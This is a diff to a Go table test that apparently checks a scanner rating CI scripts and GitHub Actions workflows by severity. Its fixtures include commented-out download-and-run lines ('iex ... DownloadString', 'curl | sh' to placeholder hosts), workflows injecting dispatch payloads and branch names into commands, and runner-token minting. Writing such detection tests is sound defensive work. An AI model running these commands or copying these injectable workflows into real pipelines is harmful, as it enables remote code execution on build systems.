@@ -34,6 +34,15 @@ func TestSeverityByContext(t *testing.T) {
 		{"script starts the service it registered", "ci/agent.sh", "./config.sh --unattended --url https://github.com/x/y --token $T\nsudo ./svc.sh install && sudo ./svc.sh start", 2, "high runner-register"},
 		{"script mints for the repository it names", "ci/agent.py", "req = urllib.request.Request(f'https://api.github.com/repos/{R}/actions/runners/registration-token', method='POST')\nsubprocess.run(['./config.sh', '--url', f'https://github.com/{R}', '--token', t])", 1, "high runner-register"},
 		{"mint with no registration to follow", "ci/agent.sh", "T=$(gh api -X POST repos/$R/actions/runners/registration-token --jq .token)\n./run.sh --jitconfig \"$J\"", 1, "high runner-register"},
+		// A YAML or shell line a # opens is a comment, spaced or not: a step
+		// commented out does not run.
+		{"CI step commented out", "appveyor.yml", "init:\n  #- ps: iex ((new-object net.webclient).DownloadString('https://x.invalid/e.ps1'))\n  - cmake --version", 2, "medium download-and-run"},
+		{"script line commented out", "ci/setup.sh", "#curl -fsSL https://x.invalid/i | sh\nmake", 1, "medium download-and-run"},
+		// A dispatch's payload is written by whoever holds a token that may
+		// dispatch; the repository it names, built, is anyone's code.
+		{"dispatch payload in a command", ".github/workflows/a.yml", "on: repository_dispatch\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo \"deploying ${{ github.event.client_payload.version }}\"", 6, "medium gha-script-injection"},
+		{"dispatch names the repository built", ".github/workflows/a.yml", "on: repository_dispatch\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          repository: ${{ github.event.client_payload.repo }}\n      - run: npm ci && npm run build", 9, "high gha-pr-code-run"},
+		{"check suite's branch in a command", ".github/workflows/a.yml", "on: check_suite\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo ${{ github.event.check_suite.head_branch }}", 6, "high gha-script-injection"},
 		// A token fetched from a service goes back to that service as its
 		// use; to another host it leaves.
 		{"token back to its issuer", "scripts/reg.sh", "export SESSION_TOKEN=$(curl -s -X POST https://auth.x.invalid/login -d user=ci | jq -r .token)\n[ -n \"$SESSION_TOKEN\" ] || exit 1\ncurl -s -X POST https://auth.x.invalid/renew -d \"token=$SESSION_TOKEN\"", 3, "medium download"},
